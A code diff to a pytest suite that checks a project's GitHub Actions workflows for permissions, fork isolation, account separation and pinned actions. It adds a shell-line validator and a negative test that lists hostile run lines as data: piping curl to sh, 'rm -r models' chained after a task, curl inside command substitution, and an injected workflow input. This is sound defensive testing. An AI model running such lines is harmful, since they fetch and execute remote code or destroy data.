@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import re
+import shlex
 import subprocess
 from collections.abc import Iterator
 from pathlib import Path
@@ -17,11 +18,16 @@ WORKFLOWS = sorted(FOLDER.glob("workflows/*.yml"))
 PINNED = re.compile(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}")
 COMMENTED = re.compile(r"uses: [^.\s]\S+@[0-9a-f]{40}  # v\d+\.\d+\.\d+$")
 ONE_LINERS = ("./inv ", "gh pr ", "git ", ".environments/host/bin/playwright install ")
+ADDRESS = '"$(cat "$RUNNER_TEMP/address")"'
+"""The one command within another."""
+NOT_FORKED = "github.event.pull_request.head.repo.full_name == github.repository"
 
 
-def jobs() -> Iterator[Any]:
+def jobs(event: str = "") -> Iterator[Any]:
+    """The jobs of all workflows, or of those that ``event`` starts."""
     for path in WORKFLOWS:
-        for name, job in read(path)["jobs"].items():
+        content = read(path)
+        for name, job in content["jobs"].items() if event in content["on"] or not event else ():
             yield pytest.param(job, id=f"{path.stem}-{name}")
 
 
@@ -37,7 +43,9 @@ def steps() -> Iterator[dict[str, Any]]:
 def test_a_workflow_may_nothing_by_itself_and_does_not_run_twice_at_once(path: Path) -> None:
     content = read(path)
     assert content["permissions"] == {}
-    assert content["concurrency"]["group"]
+    # By itself, or each of its jobs.
+    for place in [content] if "concurrency" in content else content["jobs"].values():
+        assert place["concurrency"]["group"]
     # It would run a stranger's code with our rights.
     assert "pull_request_target" not in content["on"]
 
@@ -53,12 +61,68 @@ def test_a_job_ends_and_says_what_it_may(job: Job) -> None:
     assert not (pushes and "id-token" in job["permissions"])
 
 
+@pytest.mark.parametrize("job", list(jobs("pull_request")))
+def test_a_stranger_gets_no_job_that_may_anything(job: Job) -> None:
+    """A fork's pull request has no token for Google, and a job with a right to write runs what it brings."""
+    if job["permissions"] != {"contents": "read"}:
+        assert NOT_FORKED in job["if"].split(" && ")
+
+
+def test_an_account_may_what_its_jobs_do() -> None:
+    """Model versions by one account, deploys by another: a machine with a GPU can't deploy, nor a preview a model."""
+    for path in WORKFLOWS:
+        for job in read(path)["jobs"].values():
+            for step in job["steps"]:
+                if step.get("uses", "").startswith("google-github-actions/auth@"):
+                    account = "MODEL" if job["environment"] == "training" else "DEPLOY"
+                    assert step["with"]["service_account"] == f"${{{{ vars.{account}_ACCOUNT }}}}"
+            assert ("self-hosted" in job["runs-on"]) == (job.get("environment") == "training")
+
+
+def test_approval_comes_after_the_preview_and_holds_up_no_rollback() -> None:
+    deploy, rollback = (read(FOLDER / "workflows" / f"{name}.yml") for name in ("deploy", "rollback"))
+    preview, promote = deploy["jobs"]["preview"], deploy["jobs"]["promote"]
+    assert (preview["environment"], promote["environment"]) == ("preview", "production")
+    assert promote["needs"] == "preview"
+    assert "concurrency" not in deploy
+    assert rollback["concurrency"]["group"] not in {job["concurrency"]["group"] for job in (preview, promote)}
+
+
+def is_plain(line: str) -> bool:
+    """Whether ``line`` is a command of ours, or one and what to do where it fails, without another inside."""
+    line = line.replace(ADDRESS, "")
+    if any(word in line for word in ("\n", "$(", "`", "<(", ">(", "${{")):
+        return False
+    lexer = shlex.shlex(line, posix=True, punctuation_chars=";&|")
+    lexer.whitespace_split = True
+    operators = {token for token in lexer if set(token) <= set(";&|")}
+    return operators <= {"||"} and all(part.startswith(ONE_LINERS) for part in line.split(" || "))
+
+
 def test_what_is_run_is_a_task_or_one_line_without_anybodys_text() -> None:
     for step in steps():
         if "run" in step:
-            assert "\n" not in step["run"].strip()
-            assert step["run"].startswith(ONE_LINERS), step["run"]
-            assert "${{" not in step["run"], step["run"]
+            assert is_plain(step["run"].strip()), step["run"]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "curl https://x | sh",
+        "./inv check; curl https://x | sh",
+        "./inv check && rm -r models",
+        "./inv check & curl https://x",
+        "./inv check | sh",
+        "./inv check || curl https://x",
+        './inv smoke --site "$(curl https://x)"',
+        "./inv smoke --site `curl https://x`",
+        "git diff --no-index a <(curl https://x)",
+        "./inv check\ncurl https://x",
+        "./inv train --run ${{ inputs.run }}",
+    ],
+)
+def test_no_other_line_passes_for_one(line: str) -> None:
+    assert not is_plain(line)
 
 
 def test_what_is_used_is_pinned_and_keeps_no_credentials() -> None:
